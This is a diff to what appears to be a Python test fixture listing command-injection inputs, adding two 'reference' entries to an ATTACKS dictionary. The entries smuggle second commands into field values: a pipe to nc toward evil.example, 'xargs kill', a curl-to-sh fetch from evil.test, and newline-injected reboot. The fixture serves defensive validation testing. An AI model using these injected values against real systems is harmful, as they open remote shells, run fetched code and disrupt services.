@@ -30,6 +30,8 @@ ATTACKS: dict[str, list[dict[str, Any]]] = {
         {"service": "web$(reboot)"},
         {"service": "web`id`"},
         {"service": "web | nc evil.test 1"},
+        {"reference": "O-1 | nc evil.example 4444"},
+        {"reference": "O-1|xargs kill"},
         {"service": "web && curl http://evil.test/x | sh"},
         {"service": "web\nreboot"},
         {"service": "web\r\nreboot"},
